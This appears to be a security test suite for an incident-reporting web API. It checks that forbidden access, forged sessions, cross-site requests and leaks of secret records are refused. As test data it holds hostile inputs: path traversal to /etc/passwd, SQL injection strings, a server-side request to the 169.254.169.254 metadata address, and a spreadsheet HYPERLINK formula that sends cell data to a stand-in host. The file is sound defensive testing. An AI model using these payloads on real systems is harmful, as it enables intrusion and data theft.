/**
 * Attacks on the API, each a line: who tries what, and what must come of it. Whoever may not see a thing is told that it does
 * not exist or that they may not; the words of the compartment stand in no answer to anybody outside of it.
 */
import { randomBytes } from 'node:crypto'
import { eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { addMs, day, hour, minute } from '../../domain/time.ts'
import { activationsOf, saveAdoption } from '../../store/activations.ts'
import { clocksOf } from '../../store/clocks.ts'
import { insertEvidence } from '../../store/evidence.ts'
import { incidentRow } from '../../store/incidents.ts'
import type { Store } from '../../store/open.ts'
import { articles, quarantine, seats } from '../../store/schema.ts'
import { draftDocument } from '../../workflow/document/draft-document.ts'
import { openIncident } from '../../workflow/incident/open-by-hand.ts'
import { approveActivation } from '../../workflow/plan/decide-activation.ts'
import { moveStep } from '../../workflow/plan/move-step.ts'
import { logPhoneReport } from '../../workflow/report/log-phone-report.ts'
import { sendReport } from '../../workflow/report/send-report.ts'
import { markSuspectedMajor } from '../../workflow/review/mark-suspected-major.ts'
import { openFlag } from '../../workflow/review/open-flag.ts'
import { signWebhook } from '../../domain/webhook-signature.ts'
import { type ApiHouse, openApiHouse, password, publicUrl } from '../support/api-house.ts'
import { crew, type SeededArticle, seedArticle, seedBureaus } from '../support/bureaus.ts'
import { openTestStore } from '../support/db.ts'

const at = new Date('2026-10-01T02:00:00.000Z')
const secretTitle = '甲字七号载体外泄'
const formula = '=HYPERLINK("https://example.test/?"&A1,"统计数据系编造")'
const reason = '依据研判意见办理'
const fields = {
  ...{ occurredAt: '2026-09-30', place: '柳州', kind: '不实报道', impact: '转载两家', measures: '核对数据' },
  ...{ other: '', mediaSource: '某站' },
}

let store: Store
let house: ApiHouse
const made = {} as {
  article: SeededArticle
  other: SeededArticle
  nnIncident: string
  nnFlag: string
  nnReport: string
  nnClock: string
  leak: string
  leakNo: string
  leakClock: string
  leakPaper: string
  leakRun: string
  evidence: string
  sender: { id: string; key: string }
}

const people = {
  lzduty: [['liuzhou', 'duty_officer']],
  nnduty: [['nanning', 'duty_officer']],
  office: [['gx', 'office_staff']],
  director: [['gx', 'office_director']],
  group: [['liuzhou', 'leading_group']],
  admin: [['gx', 'admin']],
  auditor: [['gx', 'auditor']],
  xmduty: [['xm', 'office_director']],
  moved: [['gx', 'office_director']],
  gone: [['gx', 'office_director']],
  closed: [['gx', 'office_director']],
  lent: [['gx', 'office_director']],
} as const
type Name = keyof typeof people

beforeAll(async () => {
  store = await openTestStore()
  const { db } = store
  await seedBureaus(db, addMs(at, -day))
  await saveAdoption(db, { rootId: 'gx', plan: 'leak', adoptedAt: addMs(at, -day), adoptedBy: '测试' })
  house = await openApiHouse({ store })
  for (const [name, held] of Object.entries(people))
    await house.person(
      name,
      held.map(([u, r]) => [u, r]),
    )
  const begun = addMs(at, -hour)
  made.article = await seedArticle(db, { title: formula, at: begun })
  made.other = await seedArticle(db, { title: '别的文章', at: begun })
  const flag = { unitId: 'nanning', types: ['M12'], level: 'high' as const, score: 0.8, reasons: [] }
  made.nnFlag = (await openFlag(db, { ...made.article, ...flag }, begun)).flagId
  await openFlag(db, { ...made.article, ...flag, unitId: 'liuzhou' }, begun)
  const by = { actor: crew.nnDuty, at: begun }
  const marked = value(await markSuspectedMajor(db, { flagId: made.nnFlag, subject: 'own_level' }, by))
  made.nnIncident = marked.incidentId
  const report = { incidentId: made.nnIncident, kind: 'first' as const, fromUnitId: 'nanning', fields }
  made.nnReport = value(await sendReport(db, { ...report, channel: 'system', toUnitIds: ['gx'] }, by)).reportId
  made.nnClock = (await clocksOf(db, made.nnIncident))[0]!.id
  const leak = { plan: 'leak', unitId: 'gx', title: secretTitle, place: '某处', foundAt: begun }
  const opened = value(await openIncident(db, leak, { actor: crew.gxSecrecy, at: begun }))
  made.leakNo = opened.no
  made.leak = opened.incidentId!
  const paper = {
    ...{ kind: 'leak_report' as const, unitId: 'gx', incidentId: made.leak },
    marks: { secrecy: '机密★1年', copyNo: '000001', urgency: null, publicity: '不予公开' as const },
  }
  made.leakPaper = value(await draftDocument(db, paper, { actor: crew.gxSecrecy, at: begun })).id
  made.leakRun = (await activationsOf(db, made.leak))[0]!.id
  const secrecy = { actor: crew.gxSecrecy, at: begun }
  value(await approveActivation(db, { activationId: made.leakRun, reason, start: true }, secrecy))
  const number = { paper: '甲字七号报〔2026〕1号', unit: '某处' }
  value(await moveStep(db, { activationId: made.leakRun, step: 'L01', verb: 'fill', fields: number }, secrecy))
  made.leakClock = (await clocksOf(db, made.leak))[0]!.id
  await db
    .insert(quarantine)
    .values({ step: 'fire-clock', subjectId: made.leakClock, error: 'timeout', tries: 6, at: begun })
  const sealed = { kind: 'page' as const, day: '2026-10-01', file: '../../../../etc/passwd', offset: 0, length: 40 }
  const more = { recordSha256: '', recordId: 'r', sha256: 'x', sizeBytes: 1, status: 200, contentType: 'text/html' }
  const urls = { requestedUrl: 'https://example.test/', finalUrl: 'https://example.test/', fetchedAt: begun }
  made.evidence = (
    await insertEvidence(db, { articleId: made.other.articleId, sealed: { ...sealed, ...more, ...urls } })
  ).id
  const sender = await house.ask('/api/senders', { cookie: await house.cookie('admin'), body: { name: '某单位' } })
  made.sender = { id: sender.json.sender?.id ?? sender.json.id, key: sender.json.key }
})
afterAll(async () => {
  await house.close()
  await store.close()
})

function value<T>(result: { ok: true; value: T } | { ok: false; refusal: object }): T {
  if (!result.ok) throw new Error(JSON.stringify(result.refusal))
  return result.value
}
const as = async (name: Name, path: string, body?: object, headers: Record<string, string> = {}) =>
  house.ask(path, { cookie: await house.cookie(name), headers, ...(body ? { body } : {}) })
const seatsOf = async (name: Name) => {
  const { id } = (await as('admin', '/api/people')).json.items.find((p: { username: string }) => p.username === name)
  return id as string
}
const signed = (body: string, { id, key = made.sender.key, when = at }: { id: string; key?: string; when?: Date }) => {
  const timestamp = String(Math.floor(when.getTime() / 1000))
  const request = { id, timestamp, body: new TextEncoder().encode(body) }
  return {
    ...{ 'tongyu-sender': made.sender.id, 'webhook-id': id, 'webhook-timestamp': timestamp },
    'webhook-signature': signWebhook(key, request),
  }
}
const handIn = (body: string, headers: Record<string, string>) =>
  house.ask('/api/intake/articles', {
    method: 'POST',
    file: new TextEncoder().encode(body),
    headers: { 'content-type': 'application/json', ...headers },
  })

type Answered = { status: number; text: string; headers: Headers }
type Attack = [what: string, run: () => Promise<Answered>, ...refusedWith: number[]]
const unseen = [403, 404]

const byId: Attack[] = [
  ['an incident of a sister city', () => as('lzduty', `/api/incidents/${made.nnIncident}`), ...unseen],
  ['a flag of a sister city', () => as('lzduty', `/api/flags/${made.nnFlag}`), ...unseen],
  ['acknowledging for a sister city', () => as('lzduty', `/api/flags/${made.nnFlag}/acknowledge`, {}), ...unseen],
  ['marking for a sister city', () => as('lzduty', `/api/flags/${made.nnFlag}/mark-suspected-major`, {}), ...unseen],
  ['a report of a sister city', () => as('lzduty', `/api/reports/${made.nnReport}`), ...unseen],
  [
    'rewriting a sister city’s report',
    () => as('lzduty', `/api/reports/${made.nnReport}/revise`, { fields }),
    ...unseen,
  ],
  [
    'receiving a report for others',
    () => as('lzduty', `/api/reports/${made.nnReport}/acknowledge`, { unitId: 'gx' }),
    ...unseen,
  ],
  [
    'handing a duty of others on',
    () => as('lzduty', `/api/clocks/${made.nnClock}/transfer`, { toUnitId: 'liuzhou', reason }),
    ...unseen,
  ],
  [
    'fulfilling a duty of others',
    () => as('lzduty', `/api/clocks/${made.nnClock}/fulfil`, { note: '已办理' }),
    ...unseen,
  ],
  [
    'talking points of a sister city',
    () => as('lzduty', `/api/incidents/${made.nnIncident}/talking-points`),
    ...unseen,
  ],
  [
    'evidence under another article’s address',
    () => as('lzduty', `/api/articles/${made.article.articleId}/evidence/${made.evidence}`),
    ...unseen,
  ],
  [
    'the form of a step in the compartment',
    () => as('director', `/api/activations/${made.leakRun}/steps/L01/form`),
    ...unseen,
  ],
  [
    'writing into the form of a step in the compartment',
    () =>
      as('director', `/api/activations/${made.leakRun}/steps/L01`, {
        verb: 'fill',
        fields: { paper: '密〔2026〕2号' },
      }),
    ...unseen,
  ],
  ['another tree’s incident', () => as('xmduty', `/api/incidents/${made.nnIncident}`), ...unseen],
  ['a message of another person', () => as('lzduty', '/api/messages/not-mine/read', {}), ...unseen],
  [
    'a report in another bureau’s name',
    () =>
      as('lzduty', `/api/incidents/${made.nnIncident}/reports`, {
        kind: 'first',
        fromUnitId: 'nanning',
        recipientIds: ['gx'],
        fields,
      }),
    ...unseen,
  ],
]
const byOffice: Attack[] = [
  ['the administrator reads incidents', () => as('admin', '/api/incidents'), 403],
  ['the administrator reads one', () => as('admin', `/api/incidents/${made.nnIncident}`), ...unseen],
  [
    'the administrator grades',
    () => as('admin', `/api/incidents/${made.nnIncident}/grade`, { grade: 'major', reason }),
    ...unseen,
  ],
  [
    'the administrator activates',
    () => as('admin', `/api/incidents/${made.nnIncident}/activate`, { reason }),
    ...unseen,
  ],
  ['the administrator reads flags', () => as('admin', '/api/flags'), 403],
  ['the administrator reads the record', () => as('admin', '/api/audit'), 403],
  [
    'the auditor makes accounts',
    () => as('auditor', '/api/people', { name: '某', username: 'someone', password, seats: [] }),
    403,
  ],
  [
    'a city’s leading group grades for another',
    () => as('group', `/api/incidents/${made.nnIncident}/grade`, { grade: 'major', reason }),
    ...unseen,
  ],
  [
    'an office makes itself administrator',
    async () =>
      as('office', `/api/people/${await seatsOf('office')}/seats`, { seats: [{ unitId: 'gx', role: 'admin' }] }),
    ...unseen,
  ],
  [
    'the administrator takes a second, deciding seat',
    async () =>
      as('admin', `/api/people/${await seatsOf('admin')}/seats`, {
        seats: [
          { unitId: 'gx', role: 'admin' },
          { unitId: 'gx', role: 'leading_group' },
        ],
      }),
    400,
    403,
    409,
    422,
  ],
]
/** An order by which the office signs for its director (委托书), as somebody asks for it. */
const order = async (more: object = {}) => ({
  ...{ forUserId: await seatsOf('director'), userId: await seatsOf('office'), unitId: 'gx', role: 'office_director' },
  ...{ powers: ['decide'], number: '桂统委〔2026〕9号', signedOn: '2026-01-01', reason: '外出' },
  ...{ fromAt: at.toISOString(), untilAt: addMs(at, day).toISOString(), ...more },
})
const rescope = () =>
  as('office', `/api/incidents/${made.nnIncident}/scope`, {
    ...{ scope: 'city_only', unitIds: ['nanning'], reason },
  })
const byOrder: Attack[] = [
  [
    'the administrator lends the director’s signatures',
    async () => as('admin', '/api/delegations', await order()),
    403,
  ],
  ['the office lends them to itself', async () => as('office', '/api/delegations', await order()), 403],
  [
    'another bureau lends them',
    async () => as('group', '/api/delegations', await order({ userId: await seatsOf('group') })),
    403,
  ],
  [
    'the director lends them to another bureau',
    async () => as('director', '/api/delegations', await order({ userId: await seatsOf('nnduty') })),
    422,
    400,
  ],
  [
    'signing on when the order was revoked in mid-session',
    async () => {
      expect((await rescope()).status).toBe(403)
      const { id } = (await as('director', '/api/delegations', await order())).json
      expect((await as('office', '/api/me')).json.lent).toMatchObject([{ role: 'office_director', unit: { id: 'gx' } }])
      expect((await rescope()).status).not.toBe(403)
      // Whoever signs for the director is no director: what is not lent stays out of reach, the compartment first of all.
      expect((await as('office', '/api/people')).status).toBe(403)
      expect(unseen).toContain((await as('office', `/api/incidents/${made.leak}`)).status)
      expect((await as('admin', `/api/delegations/${id}/revoke`, { reason })).status).not.toBe(200)
      expect((await as('director', `/api/delegations/${id}/revoke`, { reason })).status).toBe(200)
      expect((await as('office', '/api/me')).json.lent).toEqual([])
      return rescope()
    },
    403,
  ],
]
const bySession: Attack[] = [
  ['nobody signed in', () => house.ask('/api/incidents'), 401],
  ['a made-up session', () => house.ask('/api/incidents', { cookie: 'better-auth.session_token=abc.def' }), 401],
  [
    'a seat taken away while the session lives',
    async () => {
      expect((await as('moved', `/api/incidents/${made.nnIncident}`)).status).toBe(200)
      await store.db
        .update(seats)
        .set({ toAt: addMs(at, -1) })
        .where(eq(seats.userId, await seatsOf('moved')))
      return as('moved', `/api/incidents/${made.nnIncident}`)
    },
    ...unseen,
  ],
  [
    'a session that was signed out',
    async () => {
      const cookie = await house.signIn('gone')
      expect((await house.ask('/api/incidents', { cookie })).status).toBe(200)
      await house.ask('/api/auth/sign-out', { cookie, body: {} })
      return house.ask('/api/incidents', { cookie })
    },
    401,
  ],
  [
    'an account that was closed',
    async () => {
      expect((await as('closed', '/api/incidents')).status).toBe(200)
      await as('admin', `/api/people/${await seatsOf('closed')}/close`, {})
      return as('closed', '/api/incidents')
    },
    401,
  ],
  [
    'a seat lent for a time that is over',
    async () => {
      expect((await as('lent', '/api/incidents')).status).toBe(200)
      const lent = { fromAt: addMs(at, -3 * day), toAt: addMs(at, -day) }
      await store.db
        .update(seats)
        .set(lent)
        .where(eq(seats.userId, await seatsOf('lent')))
      return as('lent', '/api/incidents')
    },
    403,
  ],
  [
    'a seat lent from tomorrow on',
    async () => {
      await store.db
        .update(seats)
        .set({ fromAt: addMs(at, day), toAt: null })
        .where(eq(seats.userId, await seatsOf('lent')))
      return as('lent', '/api/incidents')
    },
    403,
  ],
  [
    'a page of another site',
    () => as('lzduty', `/api/flags/${made.nnFlag}/acknowledge`, {}, { origin: 'https://evil.test' }),
    403,
  ],
  [
    'a page without an origin',
    () => as('lzduty', `/api/flags/${made.nnFlag}/acknowledge`, {}, { origin: 'null' }),
    403,
  ],
  [
    'an origin that only begins like ours',
    () => as('lzduty', `/api/flags/${made.nnFlag}/acknowledge`, {}, { origin: `${publicUrl}.evil.test` }),
    403,
  ],
  [
    'a form of another site, sent as text',
    async () =>
      house.ask(`/api/flags/${made.nnFlag}/acknowledge`, {
        method: 'POST',
        cookie: await house.cookie('nnduty'),
        file: new TextEncoder().encode('{}'),
        headers: { origin: 'https://evil.test', 'content-type': 'text/plain' },
      }),
    403,
  ],
  [
    'signing oneself up',
    () => house.ask('/api/auth/sign-up/email', { body: { email: 'a@example.test', password, name: '某' } }),
    401,
    403,
    404,
  ],
  [
    'setting the house up again',
    () => house.ask('/api/setup', { body: { code: 'x', name: '某', username: 'second', password, treeId: 'gx' } }),
    400,
    401,
    403,
    404,
    409,
  ],
]
const byShape: Attack[] = [
  [
    'a way out of the evidence folder',
    () => as('office', '/api/articles/..%2f..%2f..%2fetc%2fpasswd/evidence/x'),
    400,
    404,
  ],
  [
    'a record whose row points out of the folder',
    () => as('office', `/api/articles/${made.other.articleId}/evidence/${made.evidence}`),
    404,
    500,
    409,
    410,
    422,
  ],
  ['a way out by the calendar feed', () => house.ask('/api/calendar/feed/..%2f..%2f..%2fetc%2fpasswd'), 400, 404],
  [
    'a body of a gigabyte’s kind',
    () => as('lzduty', `/api/flags/${made.nnFlag}/acknowledge`, { x: 'x'.repeat(600_000) }),
    413,
  ],
  ['a page of a million rows', () => as('office', '/api/incidents?pageSize=1000000'), 400, 422],
  [
    'an order by a column of the attacker',
    () => as('office', '/api/incidents?sort=id;DROP TABLE incidents'),
    200,
    400,
    422,
  ],
  [
    'a call that will be made tomorrow',
    () =>
      as('office', `/api/incidents/${made.nnIncident}/phone-reports`, {
        fromUnitId: 'nanning',
        toUnitId: 'gx',
        callAt: addMs(at, day).toISOString(),
        caller: '某',
        fields,
      }),
    400,
    403,
    409,
    422,
  ],
  [
    'a webhook into the house',
    () =>
      as('admin', '/api/channels', {
        kind: 'webhook',
        name: '内网',
        unitId: 'gx',
        settings: { url: 'http://169.254.169.254/latest/meta-data' },
      }),
    400,
    403,
    422,
  ],
]
const intake = JSON.stringify({
  url: 'https://example.test/handed',
  title: '某文',
  text: '某文正文内容若干。',
  channel: 'site',
  outlet: '某站',
})
const byProgram: Attack[] = [
  [
    'a signature by another key',
    () => handIn(intake, signed(intake, { id: 'm1', key: `whsec_${randomBytes(24).toString('base64')}` })),
    401,
    403,
  ],
  [
    'a signed body that was changed',
    () => handIn(intake.replace('某文', '改文'), signed(intake, { id: 'm2' })),
    401,
    403,
  ],
  [
    'a signature of an hour ago, replayed',
    () => handIn(intake, signed(intake, { id: 'm3', when: addMs(at, -hour) })),
    401,
    403,
  ],
  [
    'a signature of the future',
    () => handIn(intake, signed(intake, { id: 'm4', when: addMs(at, 10 * minute) })),
    401,
    403,
  ],
  [
    'a key that was revoked',
    async () => {
      await as('admin', `/api/senders/${made.sender.id}/revoke`, {})
      return handIn(intake, signed(intake, { id: 'm5' }))
    },
    401,
    403,
  ],
]
const refused = { byId, byOffice, byOrder, bySession, byShape, byProgram }

/** Who stands outside of the compartment, and where its words might slip out. */
const outside: [Name, string][] = [
  ...['', '?q=甲字七号', `?q=${encodeURIComponent("' OR 1=1 --")}`, '?format=csv', '?pageSize=100&sort=opened'].map(
    (query): [Name, string] => ['office', `/api/incidents${query}`],
  ),
  ['director', '/api/incidents?q=外泄'],
  ...['', '?q=失泄密', '?kind=leak_report', '?format=csv', '?state=draft&sort=title'].map((query): [Name, string] => [
    'director',
    `/api/documents${query}`,
  ]),
  ['director', '/api/clocks/nearest'],
  ['director', '/api/messages'],
  ['office', '/api/quarantine'],
  ['office', '/api/flags?format=csv'],
  ['admin', '/api/status'],
  ['admin', '/api/dispatches'],
  ['admin', '/api/quarantine'],
  ['auditor', '/api/audit?pageSize=100'],
  ['auditor', '/api/audit?format=csv'],
  ['director', '/api/plans'],
]

describe('attacks', () => {
  for (const [how, attacks] of Object.entries(refused))
    describe(how, () => {
      for (const [what, run, ...statuses] of attacks)
        it(`${what} is refused`, async () => {
          const answer = await run()
          expect(statuses, `${answer.status} ${answer.text.slice(0, 300)}`).toContain(answer.status)
          expect(answer.text).not.toMatch(/root:.*:0:0/)
        })
    })

  it('the compartment stands in no list, search, count, file, record or message outside of it', async () => {
    for (const [name, path] of outside) {
      const answer = await as(name, path)
      expect(answer.status, `${name} ${path} ${answer.text.slice(0, 200)}`).toBeLessThan(500)
      for (const word of [secretTitle, made.leak, made.leakNo, made.leakPaper, '甲字七号'])
        expect(path.includes(word) ? '' : answer.text, `${name} ${path} tells ${word}`).not.toContain(word)
    }
    const { total } = (await as('office', '/api/incidents')).json
    expect(total).toBe((await as('office', '/api/incidents?pageSize=100')).json.items.length)
    for (const name of ['office', 'director', 'admin', 'auditor', 'lzduty', 'xmduty'] as const)
      for (const path of ['', '/plans', '/releases', '/talking-points'])
        expect([403, 404], `${name}${path}`).toContain((await as(name, `/api/incidents/${made.leak}${path}`)).status)
    const paper = `/api/documents/${made.leakPaper}`
    const named = { verb: 'submit', revision: 1, hash: '0'.repeat(64) }
    for (const name of ['office', 'director', 'admin', 'auditor', 'lzduty', 'group', 'xmduty'] as const) {
      for (const path of ['', '/file?format=docx', '/file?format=pdf&contacts=true', '/diff?from=1&to=1'])
        expect([403, 404], `${name} ${path}`).toContain((await as(name, `${paper}${path}`)).status)
      expect(unseen).toContain((await as(name, `${paper}/act`, named)).status)
    }
    expect((await as('director', `/api/documents?incidentId=${made.leak}`)).json.total).toBe(0)
    expect(unseen).toContain((await as('director', `/api/clocks/${made.leakClock}/fulfil`, { note: '已办理' })).status)
  })

  it('the event stream says that something changed and nothing of what', async () => {
    const stream = await house.api.request(
      `${publicUrl}/api/live`,
      { headers: { cookie: await house.cookie('lzduty') } },
      { incoming: { socket: { remoteAddress: '10.0.0.9' } } },
    )
    const reader = stream.body!.getReader()
    let said = ''
    const until = Date.now() + 1_500
    const call = { incidentId: made.nnIncident, kind: 'follow_up' as const, fromUnitId: 'nanning', toUnitId: 'gx' }
    await logPhoneReport(store.db, { ...call, callAt: at, caller: '某', fields }, { actor: crew.gxDuty, at })
    while (Date.now() < until && !said.includes('incidents')) {
      const next = await Promise.race([reader.read(), new Promise<null>((done) => setTimeout(() => done(null), 300))])
      if (next?.value) said += new TextDecoder().decode(next.value)
    }
    await reader.cancel()
    expect(said).not.toBe('')
    for (const word of [secretTitle, made.leak, made.leakNo, made.nnIncident]) expect(said).not.toContain(word)
  })

  it('a formula in a headline is text in a file', async () => {
    const { text, status } = await as('nnduty', '/api/flags?format=csv')
    expect(status).toBe(200)
    expect(text).toContain('HYPERLINK')
    expect(text).not.toMatch(/(^|[,\n"])=HYPERLINK/)
  })

  it('fields that nobody asked for change nothing', async () => {
    const body = { elements: { media: true, untrue: true, serious: true, sudden: true }, reason }
    const extra = { state: 'archived', unitId: 'xm', restricted: true, scope: 'region_wide', no: 'mine' }
    const before = (await incidentRow(store.db, made.nnIncident))!
    await as('director', `/api/incidents/${made.nnIncident}/confirm`, { ...body, ...extra })
    const { state, unitId, restricted, scope, no } = (await incidentRow(store.db, made.nnIncident))!
    expect({ unitId, restricted, scope, no }).toEqual({
      ...{ unitId: before.unitId, restricted: false, scope: before.scope, no: before.no },
    })
    expect(state).not.toBe('archived')
  })

  it('counts them', async () => {
    const lines = Object.values(refused).flat().length + outside.length
    console.log(`attacks: ${lines} lines`)
    expect(lines).toBeGreaterThan(40)
    expect((await store.db.select().from(articles)).length).toBe(2)
  })
})
